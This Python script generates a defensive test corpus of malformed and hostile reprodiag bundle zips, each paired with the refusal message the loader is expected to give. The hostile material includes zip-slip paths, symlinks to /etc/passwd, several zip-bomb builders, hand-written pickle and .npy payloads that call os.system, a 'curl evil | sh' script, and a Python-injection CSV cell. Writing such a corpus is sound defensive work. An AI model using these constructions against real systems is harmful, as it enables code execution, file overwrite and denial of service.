"""Generate the corpus of hostile bundles: every way a `.reprodiag.zip` from a stranger can be bad.

Run ``python tests/data/make_hostile_bundles.py [OUT_DIR]`` (default: tests/data/hostile/) to
get the files plus INDEX.txt, one line per file saying what it is and how the reader must
answer. tests/security/test_hostile_corpus.py builds the same corpus into a temporary folder
and checks every file: each bad one is refused with one line naming the file and the problem;
the VALID ones (NaN and Inf losses are data) load. Files are made from a valid bundle written
by reprodiag itself, so the corpus follows the format as it changes.

Pickle and .npy payloads are written as literal bytes (the pickle module is never used): if
anything ever unpickled them, they would create the file PICKLE_WAS_LOADED next to them.
"""

from __future__ import annotations

import base64
import io
import json
import stat
import struct
import sys
import tempfile
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path

from reprodiag.core.bundle import write_bundle
from reprodiag.core.env.model import Fact, Snapshot
from reprodiag.core.runs.config import RunConfig
from reprodiag.core.runs.layers import capture_from_json
from reprodiag.core.runs.protocol import Done, EnvInfo, Hello, Step
from reprodiag.core.runs.record import RunRecord

RUN_ID = "20250101-120000-c0ffee01"
RUN = f"runs/{RUN_ID}/"
MARKER = "PICKLE_WAS_LOADED"
VALID = None  # Case.expect for bundles that must load
SUFFIX = ".reprodiag.zip"


@dataclass(frozen=True)
class Case:
    """One corpus file: its name (without suffix), what it is, and the expected answer."""

    name: str
    description: str
    expect: str | None  # a fragment of the refusal message; VALID (None) when it must load
    make: Callable[[Context], bytes]

    @property
    def filename(self) -> str:
        return self.name + SUFFIX


@dataclass(frozen=True)
class Context:
    valid: bytes  # a valid bundle with one finished run of 5 steps
    marker: Path  # where a payload would leave its mark if it were ever executed


# ------------------------------------------------------------------ the valid bundles


def _record(losses: list[float]) -> RunRecord:
    record = RunRecord(config=RunConfig(steps=len(losses), threads=1), run_id=RUN_ID,
                       label="corpus", python="/opt/py/bin/python3")
    record.started_at = 1735732800.0
    record.apply(Hello(worker="canary_torch", protocol=1, pid=1, python="3.11.7"))
    record.apply(EnvInfo(settings={"threads": 1}, dataset_hash="ab" * 8,
                         init_param_hash="cd" * 8, n_params=10))
    for i, loss in enumerate(losses):
        record.apply(Step(step=i, loss=loss, grad_norm=0.5, param_hash=f"p{i}",
                          batch_hash=f"b{i}", lr=0.05, step_time=0.001))
        record.apply(capture_from_json(i, [LAYER_RECORD]))
    record.apply(Done(summary={"final_loss": losses[-1], "metric": 0.5}))
    return record


# One layer record as the workers send it: an output of 2 float32 values, 1.0 and -2.0.
LAYER_RECORD = {"name": "fc", "kind": "linear", "phase": "forward", "tensor": "out",
                "hash": "ef" * 8, "norm": 5 ** 0.5, "max_abs": 2.0, "nonfinite": 0,
                "shape": [1, 2], "dtype": "float32", "sample": "f4:AACAPwAAAMA="}


def _snapshot() -> Snapshot:
    return Snapshot(facts={"host.os": Fact("Linux"), "pkg.numpy": Fact("2.1.0")},
                    captured_at=1735732799.5, python="/opt/py/bin/python3")


def _bundle_bytes(losses: list[float]) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        path = write_bundle(Path(folder) / "b", snapshot=_snapshot(), runs=[_record(losses)],
                            label="corpus")
        return path.read_bytes()


def valid_bundle() -> bytes:
    return _bundle_bytes([2.30, 1.9, 1.5, 1.2, 1.0])


# ------------------------------------------------------------------ zip surgery


def entries_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {name: zf.read(name) for name in zf.namelist()}


def zip_of(entries: Iterable[tuple[str | zipfile.ZipInfo, bytes]],
           method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of (name or ZipInfo, bytes) pairs, written as given (duplicates, odd names)."""
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about duplicate names
        with zipfile.ZipFile(buffer, "w", compression=method) as zf:
            for name, data in entries:
                zf.writestr(name, data)
    return buffer.getvalue()


def _central_entries(data: bytes) -> Iterable[tuple[int, str]]:
    """(offset, name) of every central directory header."""
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        name_len = struct.unpack_from("<H", data, at + 28)[0]
        yield at, data[at + 46 : at + 46 + name_len].decode("utf-8", "replace")
        at = data.find(b"PK\x01\x02", at + 46 + name_len)


def patch_central(data: bytes, name: str, field_offset: int, fmt: str, value: int) -> bytes:
    """Overwrite one field of `name`'s central directory header (offsets per APPNOTE 4.3.12)."""
    out = bytearray(data)
    for at, entry in _central_entries(data):
        if entry == name:
            struct.pack_into(fmt, out, at + field_offset, value)
    return bytes(out)


def set_flag_bits(data: bytes, bits: int) -> bytes:
    """Set general-purpose flag bits in every local and central header."""
    out = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (at := out.find(signature, start)) >= 0:
            (flags,) = struct.unpack_from("<H", out, at + offset)
            struct.pack_into("<H", out, at + offset, flags | bits)
            start = at + 4
    return bytes(out)


def rezip(change: Callable[[dict[str, bytes]], dict[str, bytes]]) -> Callable[[Context], bytes]:
    return lambda ctx: zip_of(change(entries_of(ctx.valid)).items())


def with_entry(name: str, data: bytes) -> Callable[[Context], bytes]:
    return rezip(lambda entries: {**entries, name: data})


def without(name: str) -> Callable[[Context], bytes]:
    return rezip(lambda entries: {k: v for k, v in entries.items() if k != name})


def only(name: str, data: bytes) -> Callable[[Context], bytes]:
    return lambda ctx: zip_of([(name, data)])


def edit_json(name: str, change: Callable[[dict], None]) -> Callable[[Context], bytes]:
    def edit(entries: dict[str, bytes]) -> dict[str, bytes]:
        obj = json.loads(entries[name])
        change(obj)
        entries[name] = json.dumps(obj).encode()
        return entries

    return rezip(edit)


def manifest(**values) -> Callable[[Context], bytes]:
    return edit_json("manifest.json", lambda m: m.update(values))


def run_json(**values) -> Callable[[Context], bytes]:
    return edit_json(RUN + "run.json", lambda r: r.update(values))


def layers_json(**values) -> Callable[[Context], bytes]:
    return edit_json(RUN + "layers.json", lambda d: d.update(values))


def layer_record(**values) -> Callable[[Context], bytes]:
    """The first captured step's record with some fields replaced."""
    return edit_json(RUN + "layers.json", lambda d: d["captures"][0]["records"][0].update(values))


def csv_lines(change: Callable[[list[str]], list[str]]) -> Callable[[Context], bytes]:
    def edit(entries: dict[str, bytes]) -> dict[str, bytes]:
        lines = entries[RUN + "steps.csv"].decode().rstrip("\n").split("\n")
        entries[RUN + "steps.csv"] = ("\n".join(change(lines)) + "\n").encode()
        return entries

    return rezip(edit)


def csv_cell(row: int, column: str, text: str) -> Callable[[Context], bytes]:
    def change(lines: list[str]) -> list[str]:
        header = lines[0].split(",")
        cells = lines[row].split(",")
        cells[header.index(column)] = text
        lines[row] = ",".join(cells)
        return lines

    return csv_lines(change)


def link(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


def with_link(name: str, target: bytes) -> Callable[[Context], bytes]:
    def make(ctx: Context) -> bytes:
        entries = [(k, v) for k, v in entries_of(ctx.valid).items() if k != name]
        return zip_of([*entries, (link(name), target)])

    return make


def streamed_zeros(name: str, size: int, declared: int | None = None):
    """A bundle whose `name` inflates to `size` zero bytes (compressed about 1000:1);
    `declared` makes the headers lie about the inflated size."""

    def make(ctx: Context) -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as zf:
            for key, value in entries_of(ctx.valid).items():
                if key != name:
                    zf.writestr(key, value)
            with zf.open(name, "w", force_zip64=False) as f:
                chunk = b"0" * 2**20
                for _ in range(size // len(chunk)):
                    f.write(chunk)
        data = buffer.getvalue()
        if declared is not None:
            data = patch_central(data, name, 24, "<I", declared)
        return data

    return make


def overlapping_bomb(ctx: Context) -> bytes:
    """A non-recursive zip bomb: 1000 central directory entries share one 1 MiB kernel."""
    kernel_plain = b"0" * 2**20
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = compressor.compress(kernel_plain) + compressor.flush()
    crc = zlib.crc32(kernel_plain)
    first = RUN + "steps.csv"
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(kernel),
                        len(kernel_plain), len(first), 0) + first.encode() + kernel
    names = ["manifest.json"] + [f"runs/r{i:04d}/steps.csv" for i in range(1000)]
    central = b"".join(
        struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(kernel),
                    len(kernel_plain), len(n), 0, 0, 0, 0, 0o100644 << 16, 0) + n.encode()
        for n in names
    )
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(names), len(names), len(central),
                      len(local), 0)
    return local + central + end


# ------------------------------------------------------------------ payloads never run


def pickle_payload(marker: Path, binary: bool) -> bytes:
    """A pickle that would run `touch MARKER` if loaded (opcodes written by hand)."""
    command = f"touch {marker}".encode()
    if not binary:  # protocol 0: GLOBAL os.system, MARK, STRING, TUPLE, REDUCE, STOP
        return b"cos\nsystem\n(S'" + command + b"'\ntR."
    # protocol 4: FRAME, SHORT_BINUNICODE "os" "system", STACK_GLOBAL, BINUNICODE command,
    # TUPLE1, REDUCE, STOP
    body = (b"\x8c\x02os\x8c\x06system\x93X" + struct.pack("<I", len(command)) + command
            + b"\x85R.")
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


def npy_object_array(marker: Path) -> bytes:
    """A .npy file holding an object array: numpy would unpickle its body with allow_pickle."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + \
        pickle_payload(marker, binary=True)


def with_payload(name: str, make_payload: Callable[[Path], bytes]) -> Callable[[Context], bytes]:
    return lambda ctx: zip_of([*entries_of(ctx.valid).items(), (name, make_payload(ctx.marker))])


def replace_payload(name: str, binary: bool) -> Callable[[Context], bytes]:
    return lambda ctx: zip_of(
        {**entries_of(ctx.valid), name: pickle_payload(ctx.marker, binary)}.items()
    )


# ------------------------------------------------------------------ the corpus


def _deep(levels: int) -> bytes:
    return b"[" * levels + b"]" * levels


def _nested_settings(r: dict) -> None:
    value: object = 1
    for _ in range(200):
        value = {"x": value}
    r["settings"] = value


def _list_missing_run(m: dict) -> None:
    m["runs"].append({"run_id": "20250101-120000-0ff1ce00", "label": "gone", "status": "finished"})


def _swap_rows(lines: list[str]) -> list[str]:
    return [lines[0], lines[2], lines[1], *lines[3:]]


def _duplicate_row(lines: list[str]) -> list[str]:
    return [*lines[:3], lines[2], *lines[3:]]


CASES: list[Case] = [
    # -- not a zip at all
    Case("not-a-zip-text", "a text file renamed to .reprodiag.zip", "not a valid zip file",
         lambda ctx: b"just some notes, not a bundle\n" * 20),
    Case("not-a-zip-png", "a PNG image header", "not a valid zip file",
         lambda ctx: b"\x89PNG\r\n\x1a\n" + b"\x00" * 200),
    Case("not-a-zip-pickle", "a bare pickle that runs a command if unpickled",
         "not a valid zip file", lambda ctx: pickle_payload(ctx.marker, binary=True)),
    Case("empty-file", "zero bytes", "not a valid zip file", lambda ctx: b""),
    # -- damaged containers
    Case("truncated-half", "a valid bundle cut in half (an interrupted download)",
         "not a valid zip file", lambda ctx: ctx.valid[: len(ctx.valid) // 2]),
    Case("truncated-end-record", "a valid bundle missing its last 10 bytes",
         "not a valid zip file", lambda ctx: ctx.valid[:-10]),
    Case("empty-zip", "a well-formed zip with no entries", "missing entry 'manifest.json'",
         lambda ctx: zip_of([])),
    # -- zip slip
    Case("zip-slip-dotdot", "an entry named ../../evil.sh", "unsafe entry name",
         with_entry("../../evil.sh", b"rm -rf ~\n")),
    Case("zip-slip-dotdot-inside", "an entry whose path climbs out of runs/ with ..",
         "unsafe entry name", with_entry("runs/../../../etc/cron.d/evil", b"* * * * * x\n")),
    Case("zip-slip-absolute", "an entry with an absolute path /etc/passwd", "unsafe entry name",
         with_entry("/etc/passwd", b"root::0:0::/:/bin/sh\n")),
    Case("zip-slip-drive-letter", "an entry named C:/Windows/System32/evil.dll",
         "unsafe entry name", with_entry("C:/Windows/System32/evil.dll", b"MZ")),
    Case("zip-slip-drive-relative", "an entry named D:evil.bat (drive-relative path)",
         "unsafe entry name", with_entry("D:evil.bat", b"del *")),
    Case("zip-slip-backslash", "an entry named ..\\..\\evil.bat (Windows separators)",
         "unsafe entry name", with_entry("..\\..\\evil.bat", b"del *")),
    Case("zip-slip-unc", "an entry named \\\\server\\share\\evil (a UNC path)",
         "unsafe entry name", with_entry("\\\\server\\share\\evil", b"x")),
    Case("zip-slip-nul", "an entry name with a NUL byte", "unsafe entry name",
         lambda ctx: patch_name_nul(ctx.valid)),
    # -- entry kinds
    Case("symlink-manifest", "manifest.json is a symbolic link to /etc/passwd", "symbolic link",
         with_link("manifest.json", b"/etc/passwd")),
    Case("symlink-steps", "a run's steps.csv is a symbolic link to the user's home",
         "symbolic link", with_link(RUN + "steps.csv", b"../../../../home")),
    Case("duplicate-manifest", "manifest.json twice, the second one different",
         "duplicate entry 'manifest.json'",
         lambda ctx: zip_of([*entries_of(ctx.valid).items(), ("manifest.json", b"{}")])),
    Case("duplicate-steps", "a run's steps.csv twice with different steps", "duplicate entry",
         lambda ctx: zip_of([*entries_of(ctx.valid).items(),
                             (RUN + "steps.csv", b"step,loss\n0,1.0\n")])),
    Case("encrypted", "every entry marked as encrypted (ZipCrypto flag)", "is encrypted",
         lambda ctx: set_flag_bits(ctx.valid, 0x1)),
    Case("bzip2-method", "entries compressed with bzip2 (not a method bundles use)",
         "unsupported compression method",
         lambda ctx: zip_of(entries_of(ctx.valid).items(), zipfile.ZIP_BZIP2)),
    # -- bombs and sizes
    Case("zip-bomb-declared-2gib", "a tiny file whose steps.csv declares 2 GiB inflated",
         "is too large", lambda ctx: patch_central(ctx.valid, RUN + "steps.csv", 24, "<I",
                                                   2**31 - 1)),
    Case("zip-bomb-ratio", "steps.csv inflating 32 MiB from about 32 KiB (ratio ~1000:1)",
         "suspicious compression ratio", streamed_zeros(RUN + "steps.csv", 32 * 2**20)),
    Case("zip-bomb-lying-header", "steps.csv inflates to 32 MiB but its header claims 100 bytes",
         "not a valid zip file", streamed_zeros(RUN + "steps.csv", 32 * 2**20, declared=100)),
    Case("zip-bomb-overlapping", "1000 entries sharing one compressed kernel (overlap bomb)",
         "not a valid zip file", overlapping_bomb),
    Case("too-many-entries", "10001 empty entries", "too many entries (10001 > 10000)",
         lambda ctx: zip_of([(f"runs/r{i}/", b"") for i in range(10_001)], zipfile.ZIP_STORED)),
    Case("huge-manifest", "a 5 MiB manifest.json (compresses to a few KiB)",
         "entry 'manifest.json' is too large",
         with_entry("manifest.json", b'{"format": "reprodiag-bundle"' + b" " * 5 * 2**20 + b"}")),
    Case("huge-manifest-runs", "a manifest listing 20000 runs",
         "'runs' must be a list of at most 10000 runs",
         manifest(runs=[{"run_id": f"r{i}", "label": "", "status": "finished"}
                        for i in range(20_000)])),
    Case("huge-label", "a manifest label of 100000 characters", "'label' must be a string",
         manifest(label="x" * 100_000)),
    # -- JSON
    Case("deep-json-manifest", "manifest.json nested 100 lists deep", "nested deeper than 64",
         with_entry("manifest.json", _deep(100))),
    Case("deep-json-recursion", "manifest.json of 200000 open brackets (parser recursion)",
         "nested too deep", with_entry("manifest.json", b"[" * 200_000)),
    Case("deep-json-run-settings", "run.json settings nested 200 objects deep",
         "nested deeper than 64", edit_json(RUN + "run.json", _nested_settings)),
    Case("json-duplicate-keys", "manifest.json with the key 'format' twice",
         "duplicate key 'format'",
         with_entry("manifest.json", b'{"format": "reprodiag-bundle", "format": "x"}')),
    Case("json-huge-number", "manifest.json holding a 5000-digit integer", "not valid JSON",
         with_entry("manifest.json", b'{"n": ' + b"9" * 5000 + b"}")),
    Case("json-syntax-error", "manifest.json that is not JSON", "not valid JSON",
         with_entry("manifest.json", b"{format: reprodiag")),
    Case("wrong-type-manifest-list", "manifest.json holds a list", "must hold a JSON object",
         with_entry("manifest.json", b"[]")),
    Case("wrong-type-format-version", "format_version is the string \"1\"",
         "'format_version' must be a positive integer", manifest(format_version="1")),
    Case("wrong-type-runs-object", "manifest 'runs' is an object", "'runs' must be a list",
         manifest(runs={})),
    Case("wrong-type-run-entry", "a manifest run entry is a number",
         "each run needs a string 'run_id'", manifest(runs=[5])),
    Case("wrong-type-n-params", "run.json n_params is a string",
         "'n_params' must be a non-negative integer", run_json(n_params="10")),
    Case("wrong-type-config-steps", "run.json config steps is a float",
         "config steps", edit_json(RUN + "run.json", lambda r: r["config"].update(steps=5.0))),
    Case("wrong-type-log", "run.json log is a list of numbers", "'log' must be a list",
         run_json(log=[1, 2])),
    Case("wrong-type-started-at", "run.json started_at is a boolean",
         "'started_at' must be a Unix time or null", run_json(started_at=True)),
    Case("wrong-type-environment", "environment.json is a list",
         "environment.json: not a reprodiag environment snapshot",
         with_entry("environment.json", b"[1, 2]")),
    # -- missing files
    Case("missing-manifest", "no manifest.json", "missing entry 'manifest.json'",
         without("manifest.json")),
    Case("missing-run-json", "a listed run without run.json", f"has no {RUN}run.json",
         without(RUN + "run.json")),
    Case("missing-steps-csv", "a listed run without steps.csv", f"has no {RUN}steps.csv",
         without(RUN + "steps.csv")),
    Case("run-listed-but-absent", "the manifest lists a run whose folder is not in the zip",
         "has no runs/20250101-120000-0ff1ce00/run.json",
         edit_json("manifest.json", _list_missing_run)),
    Case("run-not-listed", "a run folder the manifest does not list",
         "is not listed in manifest.json", with_entry("runs/stowaway/run.json", b"{}")),
    # -- format versions
    Case("version-missing", "no format_version", "'format_version' must be a positive integer",
         edit_json("manifest.json", lambda m: m.pop("format_version"))),
    Case("version-zero", "format_version 0 (never existed)",
         "'format_version' must be a positive integer", manifest(format_version=0)),
    Case("version-negative", "format_version -3", "'format_version' must be a positive integer",
         manifest(format_version=-3)),
    Case("version-future", "format_version 3 from a newer reprodiag", "upgrade reprodiag",
         manifest(format_version=3, producer={"name": "reprodiag", "version": "9.0"})),
    Case("layers-in-version-1", "a version-1 bundle holding a layers.json (version 2's)",
         f"unexpected entry '{RUN}layers.json'", manifest(format_version=1)),
    # -- layers.json
    Case("layers-not-json", "layers.json that is not JSON", "layers.json: not valid JSON",
         with_entry(RUN + "layers.json", b"{captures: [")),
    Case("layers-wrong-format", "layers.json of another format", "not a layers file",
         layers_json(format="other")),
    Case("layers-wrong-type-captures", "layers.json captures is an object",
         "'captures' must be a list", layers_json(captures={})),
    Case("layers-steps-out-of-order", "captured steps 0, 2, 1, 3, 4",
         "captured step 1 does not follow 2",
         edit_json(RUN + "layers.json", lambda d: d["captures"].insert(1, d["captures"].pop(2)))),
    Case("layers-too-many-records", "a capture of 10,001 records",
         "'records' must be a list of at most 10000 records",
         layers_json(captures=[{"step": 0, "records": [
             {**LAYER_RECORD, "name": f"layer{i}", "hash": f"{i * 7919:016x}"}
             for i in range(10_001)]}])),
    Case("layers-unknown-kind", "a layer record whose kind is 'rm -rf'", "unknown kind",
         layer_record(kind="rm -rf")),
    Case("layers-negative-norm", "a layer record with norm -1", "'norm' must not be negative",
         layer_record(norm=-1.0)),
    Case("layers-sample-not-base64", "a sample that is not base64", "'sample' is not base64",
         layer_record(sample="f4:@@@@")),
    Case("layers-sample-too-long", "a sample of 65 float32 values",
         "'sample' must hold at most 64 values",
         layer_record(sample="f4:" + base64.b64encode(bytes(4 * 65)).decode())),
    Case("layers-sample-pickle", "a sample holding a pickle (never unpickled)",
         "'sample' must start with f4: or f8:", layer_record(sample="pk:gASVAAAAAAAAAAA=")),
    Case("layers-huge-shape", "a record with a 40-dimensional shape", "'shape' must be a list",
         layer_record(shape=[1] * 40)),
    Case("layers-overlong-name", "a layer name of 1000 characters", "'name' must be a string",
         layer_record(name="x" * 1000)),
    Case("version-far-future", "format_version 10**30", "upgrade reprodiag",
         manifest(format_version=10**30)),
    Case("wrong-format-name", "manifest format is not reprodiag-bundle",
         "not a reprodiag bundle", manifest(format="other-tool")),
    # -- text encodings
    Case("not-utf8-manifest", "manifest.json in Latin-1", "not valid UTF-8",
         with_entry("manifest.json", '{"label": "caf\u00e9"}'.encode("latin-1"))),
    Case("not-utf8-utf16-manifest", "manifest.json in UTF-16 with a BOM", "not valid UTF-8",
         with_entry("manifest.json", '{"format": 1}'.encode("utf-16"))),
    Case("not-utf8-steps", "steps.csv with a byte that is not UTF-8", "not valid UTF-8",
         with_entry(RUN + "steps.csv", b"step,loss\n0,\xff\n")),
    # -- steps.csv
    Case("csv-missing-column", "steps.csv without the grad_norm column",
         "missing column(s) grad_norm",
         csv_lines(lambda ls: [",".join(c for c in line.split(",")[:2] + line.split(",")[3:])
                               for line in ls])),
    Case("csv-header-only-garbage", "steps.csv whose header is not a header",
         "missing column(s)", with_entry(RUN + "steps.csv", b"hello,world\n1,2\n")),
    Case("csv-non-numeric-loss", "a loss cell that says 'abc'", "loss 'abc' is not a number",
         csv_cell(2, "loss", "abc")),
    Case("csv-python-expression", "a loss cell holding Python code (never evaluated)",
         "is not a number", csv_cell(1, "loss", "__import__('os').system('id')")),
    Case("csv-non-numeric-step", "a step cell that says 1.5", "is not a whole number",
         csv_cell(2, "step", "1.5")),
    Case("csv-negative-step", "a step cell that says -1", "is not a whole number",
         csv_cell(1, "step", "-1")),
    Case("csv-short-row", "a row with fewer cells than the header", "cells where the header has",
         csv_lines(lambda ls: [*ls[:2], "2,1.0"])),
    Case("csv-steps-out-of-order", "steps 1, 0, 2, 3, 4", "does not follow",
         csv_lines(_swap_rows)),
    Case("csv-steps-duplicated", "step 1 recorded twice", "step 1 does not follow 1",
         csv_lines(_duplicate_row)),
    Case("csv-overlong-cell", "a loss cell of 10000 digits", "longer than 256 characters",
         csv_cell(1, "loss", "1" * 10_000)),
    # -- foreign payloads
    Case("pickle-inside", "a run folder holding model.pkl that runs a command when unpickled",
         "unexpected entry", with_payload(RUN + "model.pkl",
                                          lambda m: pickle_payload(m, binary=True))),
    Case("npy-object-array-inside", "a run folder holding weights.npy with an object array",
         "unexpected entry", with_payload(RUN + "weights.npy", npy_object_array)),
    Case("pickle-as-manifest", "manifest.json replaced by a binary pickle", "not valid UTF-8",
         replace_payload("manifest.json", binary=True)),
    Case("pickle-as-run-json", "run.json replaced by a text (protocol 0) pickle",
         "not valid JSON", replace_payload(RUN + "run.json", binary=False)),
    Case("script-at-top-level", "a shell script next to the manifest",
         "unexpected entry 'install.sh'", with_entry("install.sh", b"curl evil | sh\n")),
    # -- valid: diverged losses are data
    Case("valid-plain", "VALID: the untouched bundle every other file is made from", VALID,
         lambda ctx: ctx.valid),
    Case("valid-nan-inf-losses", "VALID: a diverged run whose losses are NaN, Inf and -Inf",
         VALID, lambda ctx: _bundle_bytes([2.3, float("inf"), float("-inf"), float("nan")])),
]


def patch_name_nul(data: bytes) -> bytes:
    """Turn the first letter of steps.csv's name into NUL in its central and local headers."""
    name = (RUN + "steps.csv").encode()
    return data.replace(name, name[:-9] + b"\x00" + name[-8:])


def build_corpus(out_dir: Path) -> list[tuple[Case, Path]]:
    """Write every case into `out_dir` plus INDEX.txt; returns (case, path) pairs."""
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    ctx = Context(valid=valid_bundle(), marker=out_dir / MARKER)
    written = []
    for case in CASES:
        path = out_dir / case.filename
        path.write_bytes(case.make(ctx))
        written.append((case, path))
    index = [f"{case.filename}: {case.description} -> "
             + ("must load" if case.expect is VALID else f"refused: ...{case.expect}...")
             for case in CASES]
    (out_dir / "INDEX.txt").write_text("\n".join(index) + "\n", encoding="utf-8")
    return written


def main(argv: list[str]) -> int:
    out = Path(argv[1]) if len(argv) > 1 else Path(__file__).resolve().parent / "hostile"
    written = build_corpus(out)
    print(f"wrote {len(written)} bundles and INDEX.txt to {out}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
